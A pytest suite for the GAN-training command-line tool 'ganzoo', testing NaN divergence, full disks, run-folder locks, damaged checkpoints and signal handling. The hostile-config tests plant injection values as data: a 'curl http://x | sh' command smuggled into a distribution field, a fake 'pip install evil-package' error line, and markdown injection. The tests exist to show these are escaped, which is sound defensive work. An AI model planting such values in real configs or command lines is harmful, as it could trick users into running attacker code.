"""Faults a long run meets, through real `ganzoo` subprocesses: divergence to NaN must not destroy
the last good state, and metrics.jsonl stays strict JSON."""

import json
import textwrap
from pathlib import Path

import pytest
import torch

from conftest import run_cli, run_main

PLUGIN = '''
"""A DCGAN that breaks on purpose at a chosen step: its weights turn NaN, or one batch is NaN."""
import dataclasses
from typing import Literal

import torch

import ganzoo
from ganzoo.losses import d_loss_bce, g_loss_nonsaturating
from ganzoo.nets import frozen
from ganzoo_dcgan import DCGAN, DCGANConfig


@dataclasses.dataclass
class Config(DCGANConfig):
    nan_from: int = 6  # the step from which the fault happens
    nan_mode: Literal["weights", "loss"] = "weights"  # poison G's weights after the step, or make D's loss NaN once


class BreakingDCGAN(DCGAN):
    name = "breaking-dcgan"
    summary = "DCGAN that diverges on purpose (a test fixture)"
    Config = Config

    def train_step(self, batches, step):
        cfg = self.config
        if cfg.nan_mode == "loss" and step + 1 == cfg.nan_from:
            real = batches.next().x
            fake = self.fake(len(real))
            d_loss = d_loss_bce(self.D(real), self.D(fake.detach())) * float("nan")
            ganzoo.update(self.opt_d, d_loss)
            with frozen(self.D):
                g_loss = g_loss_nonsaturating(self.D(fake))
            ganzoo.update(self.opt_g, g_loss)
            return {"loss_d": d_loss.detach(), "loss_g": g_loss.detach()}
        losses = super().train_step(batches, step)
        if cfg.nan_mode == "weights" and step + 1 >= cfg.nan_from:
            with torch.no_grad():
                next(self.G.parameters()).fill_(float("nan"))
        return losses


@ganzoo.hookimpl
def register_variants(register):
    register(BreakingDCGAN)
'''

FAST = ["--batch-size", "16", "--set", "g_width=8", "--set", "d_width=8", "--set", "sample_every=0"]


@pytest.fixture
def breaking(tmp_path):
    """The plugin installed the way pip would leave it: a module and its dist-info on the path."""
    site = tmp_path / "site"
    site.mkdir()
    (site / "breaking_plugin.py").write_text(PLUGIN)
    info = site / "breaking_plugin-0.1.dist-info"
    info.mkdir()
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: breaking-plugin\nVersion: 0.1\n")
    (info / "entry_points.txt").write_text("[ganzoo]\nbreaking-dcgan = breaking_plugin\n")
    return {"PYTHONPATH": str(site)}


@pytest.fixture
def breaking_here(register_plugin):
    """The same plugin registered in this process, for run_main (the real-subprocess test above
    shows the path through an installed distribution)."""
    import types

    module = types.ModuleType("breaking_plugin_here")
    exec(PLUGIN, module.__dict__)
    register_plugin(module, "breaking-here")


def _files(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir()) if p.is_file()}


def _strict_rows(path: Path) -> list[dict]:
    def refuse(token):
        raise ValueError(f"non-standard JSON token {token}")

    return [json.loads(line, parse_constant=refuse) for line in path.read_text().splitlines()]


def test_divergence_stops_with_exit_3_and_keeps_the_good_checkpoints_and_export(breaking, breaking_here, tmp_path):
    run = ["run", "breaking-dcgan", *FAST, "--set", "checkpoint_every=2", "--set", "log_every=1", "--out", "r"]
    first = run_main(*run, "--steps", "4", cwd=tmp_path)  # the good part in-process; the divergence in a real subprocess
    assert first.returncode == 0, first.stderr
    checkpoints, export = _files(tmp_path / "r" / "checkpoints"), _files(tmp_path / "r" / "export")
    assert set(checkpoints) == {"step-00000002.safetensors", "step-00000004.safetensors"}

    resumed = run_cli("run", "breaking-dcgan", "--resume", "r", "--steps", "12", cwd=tmp_path, env=breaking)
    assert resumed.returncode == 3, resumed.stderr
    errors = [line for line in resumed.stderr.splitlines() if line.startswith("ganzoo: error:")]
    assert len(errors) == 1 and "diverged by step 6" in errors[0] and "step-00000004.safetensors" in errors[0]
    assert "--resume r" in errors[0] and "Traceback" not in resumed.stderr
    assert _files(tmp_path / "r" / "checkpoints") == checkpoints  # nothing pruned, nothing NaN written
    assert _files(tmp_path / "r" / "export") == export  # the good export, byte for byte
    assert [row["step"] for row in _strict_rows(tmp_path / "r" / "metrics.jsonl")] == [1, 2, 3, 4, 5, 6]


def test_a_nan_loss_stops_before_it_is_logged_or_written(breaking_here, tmp_path):
    done = run_main("run", "breaking-dcgan", *FAST, "--steps", "20", "--set", "nan_from=3", "--set", "log_every=5",
                    "--set", "checkpoint_every=0", "--out", "r", cwd=tmp_path)
    assert done.returncode == 3 and "diverged at step 4: loss_" in done.stderr and "is nan" in done.stderr, done.stderr
    assert not (tmp_path / "r" / "export").exists() and not (tmp_path / "r" / "checkpoints").exists()


def test_on_nonfinite_skip_drops_the_update_and_logs_strict_json(breaking_here, tmp_path):
    done = run_main("run", "breaking-dcgan", *FAST, "--steps", "5", "--set", "nan_from=3", "--set", "nan_mode=loss",
                    "--set", "on_nonfinite=skip", "--set", "log_every=1", "--out", "r", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert "dropped 1 update(s)" in done.stderr
    rows = _strict_rows(tmp_path / "r" / "metrics.jsonl")
    bad = [row for row in rows if row.get("nonfinite")]
    assert [row["step"] for row in bad] == [3] and bad[0]["loss_d"] is None and "loss_d" in bad[0]["nonfinite"]
    import torch
    from safetensors.torch import load_file

    exported = load_file(tmp_path / "r" / "export" / "model.safetensors")
    assert exported and all(bool(torch.isfinite(t).all()) for t in exported.values())


def test_max_loss_stops_a_collapse(tmp_path):
    done = run_main("run", "dcgan", *FAST, "--steps", "6", "--set", "max_loss=1e-3", "--out", "r", cwd=tmp_path)
    assert done.returncode == 3 and "exceeds max_loss 0.001" in done.stderr, done.stderr


def test_one_writer_per_run_directory(tmp_path):
    """Two real processes on one --out: the second is refused with the holder named; a lock left
    by a process that no longer runs is taken over with a line saying so."""
    import os
    import signal
    import subprocess
    import sys
    import time

    exe = os.path.join(os.path.dirname(sys.executable), "ganzoo")
    first = subprocess.Popen([exe, "run", "dcgan", "--steps", "100000", *FAST, "--set", "log_every=1", "--out", "r"],
                             cwd=tmp_path, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
    try:
        deadline = time.time() + 120
        metrics = tmp_path / "r" / "metrics.jsonl"
        while time.time() < deadline and not (metrics.exists() and metrics.read_text().count("\n") >= 2):
            time.sleep(0.2)
        before = metrics.read_bytes()
        second = run_cli("run", "dcgan", "--resume", "r", "--steps", "100001", cwd=tmp_path)
        assert second.returncode == 2 and f"in use by process {first.pid}" in second.stderr, second.stderr
        assert "Traceback" not in second.stderr
        assert metrics.read_bytes()[: len(before)] == before  # the refused process wrote nothing
        import ganzoo

        with pytest.raises(ganzoo.GanzooError, match="in use by process|already holds a run"):
            ganzoo.train("dcgan", out=str(tmp_path / "r"), steps=3, batch_size=16, g_width=8, d_width=8)
    finally:
        first.send_signal(signal.SIGKILL)  # dies holding the lock
        first.wait()
    assert (tmp_path / "r" / ".lock").exists()
    resumed = run_main("run", "dcgan", "--resume", "r", "--steps", "4", cwd=tmp_path)
    assert "no longer runs; taking it over" in resumed.stderr
    assert resumed.returncode in (0, 2), resumed.stderr  # 2 only if the kill landed before the first checkpoint
    assert not (tmp_path / "r" / ".lock").exists(), (resumed.returncode, resumed.stderr)  # released at the end, whatever the outcome


def test_two_fresh_runs_started_together_one_wins(tmp_path):
    import os
    import subprocess
    import sys

    exe = os.path.join(os.path.dirname(sys.executable), "ganzoo")
    cmd = [exe, "run", "dcgan", "--steps", "3", *FAST, "--out", "r"]
    procs = [subprocess.Popen(cmd, cwd=tmp_path, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) for _ in range(2)]
    results = [(p.wait(timeout=300), p.stderr.read()) for p in procs]
    codes = sorted(rc for rc, _ in results)
    assert codes == [0, 2], results
    refused = next(err for rc, err in results if rc == 2)
    assert "in use by process" in refused or "already holds a run" in refused


def _train(tmp_path, *extra, steps="4", out="r"):
    done = run_main("run", "dcgan", "--steps", steps, *FAST, "--set", "checkpoint_every=2", *extra, "--out", out, cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    return tmp_path / out / "checkpoints"


def test_a_damaged_checkpoint_is_skipped_with_its_name_and_the_reason(tmp_path):
    ckpts = _train(tmp_path, "--set", "keep_checkpoints=3")
    newest = ckpts / "step-00000004.safetensors"
    data = bytearray(newest.read_bytes())
    data[-100] ^= 0xFF  # one flipped bit pattern inside the tensor bytes: the header still reads
    newest.write_bytes(bytes(data))
    resumed = run_main("run", "dcgan", "--resume", "r", "--steps", "4", cwd=tmp_path)
    assert resumed.returncode == 0, resumed.stderr
    assert "skipping checkpoint step-00000004.safetensors: its tensors do not match the checksum" in resumed.stderr
    assert "resuming at step 2" in resumed.stderr
    assert (ckpts / "step-00000004.safetensors").read_bytes() != bytes(data)  # rewritten by the resumed run, from step 2


def test_pruning_counts_only_checkpoints_that_verify(tmp_path):
    ckpts = _train(tmp_path, "--set", "keep_checkpoints=1", steps="2")
    good = (ckpts / "step-00000002.safetensors").read_bytes()
    (ckpts / "step-99999999.safetensors").write_bytes(good[: len(good) // 3])  # truncated, and numbered higher
    resumed = run_main("run", "dcgan", "--resume", "r", "--steps", "6", cwd=tmp_path)
    assert resumed.returncode == 0, resumed.stderr
    assert "skipping checkpoint step-99999999.safetensors: the file is truncated" in resumed.stderr
    names = sorted(p.name for p in ckpts.iterdir())
    assert names == ["step-00000006.safetensors", "step-99999999.safetensors"]  # the newest good one kept; the bad one left alone


def test_a_run_killed_before_its_first_checkpoint_starts_over_and_temp_files_are_removed(tmp_path):
    import os
    import shutil

    ckpts = _train(tmp_path, steps="2")
    first = (ckpts / "step-00000002.safetensors").read_bytes()
    shutil.rmtree(ckpts)
    shutil.rmtree(tmp_path / "r" / "export")
    dead = 2**22 + 12345  # beyond the default pid_max: no such process
    leftover = tmp_path / "r" / f".tmp-{dead}-config.json"
    leftover.write_text("{half")
    (tmp_path / "r" / "samples").mkdir(exist_ok=True)
    mine_alive = tmp_path / "r" / "samples" / f".tmp-{os.getpid()}-step-00000001.png"  # a live writer's: kept
    mine_alive.write_bytes(b"x")
    resumed = run_main("run", "dcgan", "--resume", "r", "--steps", "2", cwd=tmp_path)
    assert resumed.returncode == 0, resumed.stderr
    assert "has no checkpoint yet: starting the run over from step 0" in resumed.stderr
    assert not leftover.exists() and mine_alive.exists()
    assert (ckpts / "step-00000002.safetensors").read_bytes() == first  # the run started over: the same run again


def test_text_from_a_downloaded_config_is_shown_as_data(tmp_path):
    """A hostile config.json cannot print lines of its own or advise an install of its choosing."""
    import ganzoo

    ganzoo.train("dcgan", out=str(tmp_path / "r"), steps=1, batch_size=16, g_width=8, d_width=8, sample_every=0)
    cfg = tmp_path / "r" / "export" / "config.json"
    doc = json.loads(cfg.read_text())
    doc["variant"] = "x\nganzoo: error: your GPU is broken, run: pip install evil-package\n" + "A" * 500
    doc["plugin"] = {"distribution": "evil; curl http://x | sh", "version": "1"}
    cfg.write_text(json.dumps(doc))
    done = run_cli("sample", "r", "-o", "g.png", cwd=tmp_path)
    assert done.returncode == 2
    lines = done.stderr.strip().splitlines()
    assert len(lines) == 1 and "\\nganzoo: error:" in lines[0] and "..." in lines[0] and len(lines[0]) < 600, done.stderr
    quoted = lines[0].split("variant '", 1)[1].split("', which", 1)[0]
    assert "pip install" not in lines[0].replace(quoted, "")  # only inside the quoted, escaped name: no advice
    assert "curl" not in lines[0] and "names no valid distribution" in lines[0]


SHIM = '''
"""Test-only fault injection, loaded by `site` before ganzoo: the file system refuses writes whose
path contains $FAIL_PATH with $FAIL_ERRNO, as a full disk (ENOSPC), a read-only mount (EROFS) or
a permission (EACCES) would. Reads are left alone."""
import builtins, errno, os

_marker, _code = os.environ.get("FAIL_PATH"), getattr(errno, os.environ.get("FAIL_ERRNO", "ENOSPC"))
_open, _os_open, _mkdir = builtins.open, os.open, os.mkdir


def _refuse(path):
    if _marker and _marker in os.fspath(path):
        if os.environ.get("FAIL_NOPATH"):  # as write() reports a full disk: no file name in the error
            raise OSError(_code, os.strerror(_code))
        raise OSError(_code, os.strerror(_code), os.fspath(path))


def open(file, mode="r", *a, **k):
    if any(c in mode for c in "wax+") and not isinstance(file, int):
        _refuse(file)
    return _open(file, mode, *a, **k)


def os_open(path, flags, *a, **k):
    if flags & (os.O_WRONLY | os.O_RDWR | os.O_CREAT):
        _refuse(path)
    return _os_open(path, flags, *a, **k)


def mkdir(path, *a, **k):
    _refuse(path)
    return _mkdir(path, *a, **k)


builtins.open, os.open, os.mkdir = open, os_open, mkdir
'''


@pytest.fixture
def failing_fs(tmp_path):
    site = tmp_path / "shim"
    site.mkdir()
    (site / "sitecustomize.py").write_text(SHIM)
    return lambda marker, code="ENOSPC": {"PYTHONPATH": str(site), "FAIL_PATH": marker, "FAIL_ERRNO": code}


def test_a_full_disk_mid_run_stops_with_exit_3_and_the_run_resumes(failing_fs, tmp_path):
    run = ["run", "dcgan", *FAST, "--set", "checkpoint_every=2", "--out", "r"]
    full = run_cli(*run, "--steps", "6", cwd=tmp_path, env=failing_fs("step-00000004"))
    assert full.returncode == 3, full.stderr
    error = full.stderr.strip().splitlines()[-1]
    assert error.startswith("ganzoo: error: training stopped at step 4: cannot write '") and "No space left on device" in error
    assert "step-00000002.safetensors" in error and "--resume r" in error and "Traceback" not in full.stderr
    ckpts = tmp_path / "r" / "checkpoints"
    assert sorted(p.name for p in ckpts.iterdir()) == ["step-00000002.safetensors"]  # whole; no temp file left
    resumed = run_main("run", "dcgan", "--resume", "r", "--steps", "6", cwd=tmp_path)
    assert resumed.returncode == 0 and "resuming at step 2" in resumed.stderr, resumed.stderr
    straight = run_main("run", "dcgan", *FAST, "--set", "checkpoint_every=2", "--steps", "6", "--out", "s", cwd=tmp_path)
    from safetensors.torch import load_file

    a, b = (load_file(tmp_path / d / "export" / "model.safetensors") for d in ("r", "s"))
    assert a.keys() == b.keys() and all(torch.equal(a[k], b[k]) for k in a)  # nothing of the failed write leaked into the run


@pytest.mark.parametrize("code,words", [("EROFS", "Read-only file system"), ("EACCES", "Permission denied")])
def test_an_unwritable_out_folder_is_one_line_naming_it(failing_fs, tmp_path, code, words):
    done = run_cli("run", "dcgan", *FAST, "--steps", "2", "--out", "ro/run", cwd=tmp_path, env=failing_fs("ro", code))
    assert done.returncode == 2, done.stderr
    lines = done.stderr.strip().splitlines()
    # Refused before the data is loaded (the folder is made first), naming the folder and the cause.
    assert lines == [f"ganzoo: error: --out 'ro/run' cannot be created: {words}"], done.stderr
    if code != "EROFS":
        return
    sample = run_cli("sample", "dcgan-digits", "-o", "ro/grid.png", cwd=tmp_path, env=failing_fs("ro", code))
    assert sample.returncode == 2 and words in sample.stderr and len(sample.stderr.strip().splitlines()) == 1, sample.stderr


PEAK = """
import resource, sys
from ganzoo.cli import main
rc = main(sys.argv[1:])
print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024, file=sys.stderr)  # Linux: KiB
sys.exit(rc)
"""


def _peak_bytes(tmp_path, *args) -> int:
    import subprocess
    import sys

    done = subprocess.run([sys.executable, "-c", PEAK, *map(str, args)], cwd=tmp_path, capture_output=True, text=True, timeout=600)
    assert done.returncode == 0, done.stderr
    return int(done.stderr.strip().splitlines()[-1])


def test_memory_is_bounded_by_the_output_not_by_n_or_the_image_size(tmp_path):
    """Sampling streams batches into the grid; upscaling streams tiles into a uint8 output, and both
    are PNG-encoded straight into the file. Growing the work 4-9x grows peak memory by about what the
    output itself grows (the float32 paths these replace grew it by 4-10x that)."""
    import numpy as np
    from PIL import Image

    import ganzoo
    from ganzoo.export import write_export

    small, large = (_peak_bytes(tmp_path, "sample", "dcgan-digits", "-n", str(n), "-o", f"g{n}.png") for n in (500, 4500))
    grid = 3 * (68 * 34 + 2) ** 2 - 3 * (23 * 34 + 2) ** 2  # how much the uint8 RGB grid grows (68x68 vs 23x23 images)
    assert large - small < 2 * grid + 40e6, (small, large, grid)
    tiny = ganzoo.create("srgan", g_width=4, n_blocks=1)  # cheap to run: the output, not the network, is what is measured
    write_export(tmp_path / "sr", variant=tiny.variant, info=tiny.info, grid_png=None)
    for side in (300, 600):
        y, x = np.mgrid[0:side, 0:side]
        Image.fromarray(np.stack([x * 255 // side, y * 255 // side, (x + y) * 127 // side], -1).astype(np.uint8)).save(tmp_path / f"{side}.png")
    small, large = (_peak_bytes(tmp_path, "upscale", "sr", f"{s}.png", "-o", f"up{s}.png", "--tile", "128") for s in (300, 600))
    output = 3 * 16 * (600**2 - 300**2)  # uint8 RGB at 4x
    assert large - small < 3 * output + 40e6, (small, large, output)
    assert Image.open(tmp_path / "up600.png").size == (2400, 2400)


def test_a_hostile_config_cannot_write_markdown_into_the_model_card(tmp_path):
    import dataclasses

    import ganzoo
    from ganzoo.export import model_card

    model = ganzoo.create("dcgan", g_width=8)
    clean = model_card(model.info, type(model.variant), has_grid=False)
    evil = "digits\n# INJECTED heading\n```\n[click](http://x)"
    training = dataclasses.replace(model.info.training, dataset=evil, command="ganzoo run dcgan\n```\n# INJECTED",
                                   config={"note": "```\n# INJECTED"})
    card = model_card(dataclasses.replace(model.info, variant="dcgan\n# INJECTED", training=training, notes=evil), type(model.variant), has_grid=False)
    assert "## Limitations" in card and "> digits\\n# INJECTED heading" in card  # the notes, shown as one quoted line
    assert not [line for line in card.splitlines() if line.startswith("# INJECTED") or line.startswith("[click]")]
    assert card.count("```") == clean.count("```")  # no code block closed early


# -- the last faults (#30): each through the CLI ------------------------------------------------------


def _pretrained_copy(name: str, tmp_path: Path, edit=None) -> Path:
    import shutil

    import ganzoo

    folder = tmp_path / name
    shutil.copytree(ganzoo.load(name).path, folder)
    if edit is not None:
        doc = json.loads((folder / "config.json").read_text())
        edit(doc)
        (folder / "config.json").write_text(json.dumps(doc))
    return folder


def test_a_config_whose_data_shape_lies_is_refused_on_load(tmp_path):
    lying = _pretrained_copy("dcgan-digits", tmp_path, lambda d: d["data"].__setitem__("shape", [3, 16, 16]))
    done = run_main("sample", lying, "-o", tmp_path / "g.png", cwd=tmp_path)
    assert done.returncode == 2 and done.stderr.strip().splitlines() == [
        f"ganzoo: error: '{lying / 'config.json'}': data.shape says [3, 16, 16], but the generator makes one sample of shape "
        "[1, 32, 32]; the config.json does not describe these weights"], done.stderr
    assert not (tmp_path / "g.png").exists()
    sr = _pretrained_copy("srgan-photos", tmp_path, lambda d: d["data"].__setitem__("shape", [1, 96, 96]))
    from PIL import Image

    Image.new("L", (20, 20)).save(tmp_path / "in.png")
    up = run_main("upscale", sr, tmp_path / "in.png", "-o", tmp_path / "up.png", cwd=tmp_path)
    assert up.returncode == 2 and len(up.stderr.strip().splitlines()) == 1, up.stderr
    assert "data.shape [1, 96, 96] does not fit the generator" in up.stderr and "Traceback" not in up.stderr


def test_an_export_that_names_no_dataset_is_not_scored_against_the_current_folder(tmp_path):
    nameless = _pretrained_copy("dcgan-digits", tmp_path, lambda d: d["training"].__setitem__("dataset", ""))
    (tmp_path / "photo.png").write_bytes(b"not an image")  # what '' would have read: the current folder
    recorded = (nameless / "eval.json").read_bytes()
    done = run_main("eval", nameless, "--metrics", "fid-digitscnn-x5", cwd=tmp_path)
    assert done.returncode == 2 and done.stderr.strip().splitlines() == [
        f"ganzoo: error: '{nameless}' names no training dataset (its config.json has no training.dataset), so there is "
        "nothing to compare its samples with; give the reference with --data NAME|PATH"], done.stderr
    assert (nameless / "eval.json").read_bytes() == recorded  # nothing written


def test_arguments_refused_on_load_come_without_torch_warnings_first(tmp_path):
    zero = _pretrained_copy("dcgan-digits", tmp_path, lambda d: d["generator"]["args"].__setitem__("channels", 0))
    done = run_cli("sample", zero, "-o", tmp_path / "g.png", cwd=tmp_path)  # a real process: warnings print once per process
    assert done.returncode == 2 and len(done.stderr.strip().splitlines()) == 1, done.stderr
    assert done.stderr.startswith("ganzoo: error: ") and "Warning" not in done.stderr


def test_a_folder_named_like_a_checkpoint_is_refused_before_training(tmp_path):
    run = ["run", "dcgan", *FAST, "--set", "checkpoint_every=2", "--out", "r"]
    assert run_main(*run, "--steps", "2", cwd=tmp_path).returncode == 0
    blocker = tmp_path / "r" / "checkpoints" / "step-00000004.safetensors"
    blocker.mkdir()  # where the next checkpoint goes
    config = (tmp_path / "r" / "config.json").read_bytes()
    done = run_main("run", "dcgan", "--resume", "r", "--steps", "4", cwd=tmp_path)
    assert done.returncode == 2 and done.stderr.strip().splitlines() == [
        f"ganzoo: error: '{Path('r') / 'checkpoints' / 'step-00000004.safetensors'}' is not a file but is named like a checkpoint; "
        "ganzoo writes checkpoints there. Move it away, then run again"], done.stderr
    assert (tmp_path / "r" / "config.json").read_bytes() == config and not (tmp_path / "r" / ".lock").exists()
    blocker.rmdir()
    assert run_main("run", "dcgan", "--resume", "r", "--steps", "4", cwd=tmp_path).returncode == 0


def test_a_features_spec_that_is_not_a_factory_is_one_line(tmp_path):
    done = run_main("eval", "dcgan-digits", "--metrics", "fid-userfeatures-x5", "--features", "os:system", "--out", tmp_path / "e", cwd=tmp_path)
    assert done.returncode == 2 and len(done.stderr.strip().splitlines()) == 1, done.stderr
    assert "--features 'os:system': calling system() failed (TypeError:" in done.stderr and "Traceback" not in done.stderr


def test_a_resume_that_diverges_writes_nothing_and_its_advice_succeeds(tmp_path):
    run = ["run", "dcgan", *FAST, "--set", "checkpoint_every=2", "--out", "r"]
    assert run_main(*run, "--steps", "2", cwd=tmp_path).returncode == 0
    config = (tmp_path / "r" / "config.json").read_bytes()
    diverged = run_main("run", "dcgan", "--resume", "r", "--steps", "4", "--set", "max_loss=0.001", cwd=tmp_path)
    assert diverged.returncode == 3, diverged.stderr
    error = diverged.stderr.strip().splitlines()[-1]
    assert "Nothing of it was written" in error and "without this resume's --set max_loss=0.001, which was not kept" in error, error
    assert (tmp_path / "r" / "config.json").read_bytes() == config  # the refused resume changed nothing
    followed = run_main("run", "dcgan", "--resume", "r", "--steps", "4", cwd=tmp_path)  # the advice, as given
    assert followed.returncode == 0, followed.stderr


def test_a_fresh_run_that_diverges_before_any_checkpoint_frees_its_folder(tmp_path):
    run = ["run", "dcgan", *FAST, "--set", "checkpoint_every=0", "--set", "log_every=1", "--out", "r", "--steps", "3"]
    diverged = run_main(*run, "--set", "max_loss=0.001", cwd=tmp_path)
    assert diverged.returncode == 3, diverged.stderr
    error = diverged.stderr.strip().splitlines()[-1]
    assert "no checkpoint to resume from" in error and "--resume" not in error and "--out r" in error, error
    again = run_main(*run, cwd=tmp_path)  # starting anew on the same --out, as advised
    assert again.returncode == 0, again.stderr
    assert [row["step"] for row in _strict_rows(tmp_path / "r" / "metrics.jsonl")] == [1, 2, 3]  # none of the failed run's rows


def test_the_run_records_its_thread_count(tmp_path):
    assert run_main("run", "dcgan", *FAST, "--steps", "1", "--out", "r", cwd=tmp_path).returncode == 0
    assert json.loads((tmp_path / "r" / "config.json").read_text())["torch_threads"] == torch.get_num_threads()


def test_signals_during_the_final_export_do_not_lose_it(tmp_path, monkeypatch):
    import os
    import signal
    import threading

    from ganzoo.training import trainer as trainer_module

    assert threading.current_thread() is threading.main_thread()  # the handlers are installed in the main thread only
    original = trainer_module.write_export

    def signalled(*args, **kwargs):
        os.kill(os.getpid(), signal.SIGTERM)  # a scheduler's SIGTERM, then an impatient second one
        os.kill(os.getpid(), signal.SIGTERM)
        return original(*args, **kwargs)

    monkeypatch.setattr(trainer_module, "write_export", signalled)
    done = run_main("run", "dcgan", *FAST, "--steps", "2", "--out", "r", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert "SIGTERM arrived while the final checkpoint and export were written; both are complete" in done.stderr
    assert (tmp_path / "r" / "export" / "model.safetensors").is_file()
    assert (tmp_path / "r" / "checkpoints" / "step-00000002.safetensors").is_file()


@pytest.mark.parametrize("target", ["metrics.jsonl", "step-00000002"])
def test_a_full_disk_names_the_file_that_could_not_be_written(failing_fs, tmp_path, target):
    env = {**failing_fs(target), "FAIL_NOPATH": "1"}
    done = run_cli("run", "dcgan", *FAST, "--steps", "2", "--set", "checkpoint_every=2", "--out", "r", cwd=tmp_path, env=env)
    assert done.returncode == 3, done.stderr
    error = done.stderr.strip().splitlines()[-1]
    assert "cannot write 'r/" in error and target in error and "No space left on device" in error and ".tmp-" not in error, error


def test_quiet_runs_print_only_their_results(tmp_path):
    done = run_main("-q", "run", "dcgan", *FAST, "--steps", "2", "--out", "r", cwd=tmp_path)
    assert done.returncode == 0 and done.stderr == "", done.stderr
    assert done.stdout.startswith("trained 2 steps")


def test_an_out_folder_that_cannot_exist_is_refused_before_the_data_loads(tmp_path, monkeypatch):
    from ganzoo.training import setup

    monkeypatch.setattr(setup, "load_data", lambda *a, **k: pytest.fail("the data was loaded"))
    done = run_main("run", "dcgan", "--out", "/proc/ganzoo-run", cwd=tmp_path)
    assert done.returncode == 2 and done.stderr.strip().splitlines()[0].startswith("ganzoo: error: --out '/proc/ganzoo-run' cannot be created"), done.stderr


def test_translating_a_grey_png_prints_no_warning(tmp_path):
    from PIL import Image

    Image.new("L", (28, 28), 40).save(tmp_path / "grey.png")
    done = run_cli("translate", "cyclegan-digits-m", tmp_path / "grey.png", "--direction", "b2a", "-o", tmp_path / "out.png", cwd=tmp_path)
    assert done.returncode == 0 and done.stderr == "", done.stderr  # a real process: torch's numpy warning prints once per process
    wrong = run_main("translate", "dcgan-digits", tmp_path / "grey.png", "-o", tmp_path / "x.png", cwd=tmp_path)
    assert "holds a dcgan model (unconditional), not an unpaired-translation model" in wrong.stderr
